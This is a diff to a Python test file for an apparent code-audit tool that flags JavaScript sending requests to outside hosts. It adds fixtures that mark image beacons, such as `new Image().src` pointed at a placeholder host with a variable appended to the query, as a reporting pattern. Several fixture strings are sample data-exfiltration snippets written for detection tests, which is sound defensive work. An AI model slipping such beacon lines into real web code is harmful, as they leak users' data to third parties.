@@ -9,7 +9,7 @@ from support.packages import VOCABULARY, analysed, contents, facts_of
 
 from audit.analysis import Analyser
 from audit.capabilities import mentions
-from audit.model.mention import MENTION
+from audit.model.mention import MENTION, TOLD_PICTURE
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -92,7 +92,9 @@ def test_a_path(code: str, text: str) -> None:
 
 ELEMENTS = {
     "assigned": ("s.src = 'https://a.invalid/x.js'", "src", "https://a.invalid/x.js"),
-    "with a query": ("new Image().src = `https://a.invalid/?${c}`", "src", "https://a.invalid/?"),
+    "with a query": ("new Image().src = `https://a.invalid/?${c}`", TOLD_PICTURE, "https://a.invalid/?"),
+    "with a query that is added": ("(new Image).src = '//a.invalid/p?' + c", TOLD_PICTURE, "//a.invalid/p?"),
+    "a picture that stays": ("new Image().src = 'https://a.invalid/x.png'", "src", "https://a.invalid/x.png"),
     "joined": ("f.action = 'https://a.invalid/' + id", "action", "https://a.invalid/"),
     "without a scheme": ("s.src = '//a.invalid/x.js'", "src", "//a.invalid/x.js"),
     "through a name": ("const HOST = 'https://a.invalid/x'; s.src = HOST", "src", "https://a.invalid/x"),
